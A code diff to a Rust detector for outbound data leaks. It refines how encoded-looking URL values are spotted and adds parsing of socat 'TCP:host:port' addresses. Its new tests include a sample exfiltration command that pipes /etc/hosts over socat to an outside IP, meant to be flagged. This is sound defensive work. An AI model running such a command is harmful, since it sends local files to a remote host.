@@ -216,7 +216,7 @@ fn parse_url(text: &str) -> Option<Url<'_>> {
 }
 
 /// True if `value` looks like encoded data rather than words: long, from the base64url, hex or
-/// percent-encoding alphabet, with letters and digits and few separators.
+/// percent-encoding alphabet, with letters and digits and a long run between separators.
 fn looks_encoded(value: &str, min_len: usize) -> bool {
     let b = value.as_bytes();
     if b.len() < min_len
@@ -226,10 +226,15 @@ fn looks_encoded(value: &str, min_len: usize) -> bool {
     {
         return false;
     }
-    let separators = b.iter().filter(|c| matches!(c, b'-' | b'_' | b'.')).count();
+    // Data has long unbroken runs; slugs (`how-to-x-1a2b3c`) break every few characters.
+    let longest_run = b
+        .split(|c| matches!(c, b'-' | b'_' | b'.'))
+        .map(<[u8]>::len)
+        .max()
+        .unwrap_or(0);
     b.iter().any(u8::is_ascii_digit)
         && b.iter().any(u8::is_ascii_alphabetic)
-        && separators * 12 <= b.len()
+        && longest_run >= min_len * 3 / 4
 }
 
 /// True if a shell substitution or a redaction marker sits in `value`: data filled in at run time.
@@ -324,8 +329,19 @@ fn destination(word: &str) -> Option<&str> {
     {
         return rest.split('/').next().filter(|h| !h.is_empty());
     }
-    // `name=value` words (`--data=…`, `file=@x`) name their value.
+    // `name=value` words (`--data=…`, `file=@x`) name their value; socat addresses
+    // (`TCP:host:port`) name their host after the address type.
     let word = word.rsplit_once('=').map_or(word, |(_, value)| value);
+    let word = word
+        .split_once(':')
+        .filter(|(kind, _)| {
+            [
+                "tcp", "tcp4", "tcp6", "udp", "udp4", "udp6", "openssl", "ssl",
+            ]
+            .iter()
+            .any(|k| kind.eq_ignore_ascii_case(k))
+        })
+        .map_or(word, |(_, address)| address);
     if word.starts_with(['-', '/', '.', '@', '~', '$']) {
         return None;
     }
@@ -419,6 +435,14 @@ mod tests {
         ));
         assert!(!sends_outside(
             "curl -F file=@report.json http://127.0.0.1:3000/upload",
+            &a
+        ));
+        assert!(sends_outside(
+            "socat - TCP:203.0.113.9:9000 < /etc/hosts",
+            &a
+        ));
+        assert!(!has_leaking_url(
+            "https://medium.com/@someone/securing-github-actions-1a2b3c4d5e6f",
             &a
         ));
         assert_eq!(destination("deploy.sh"), None);
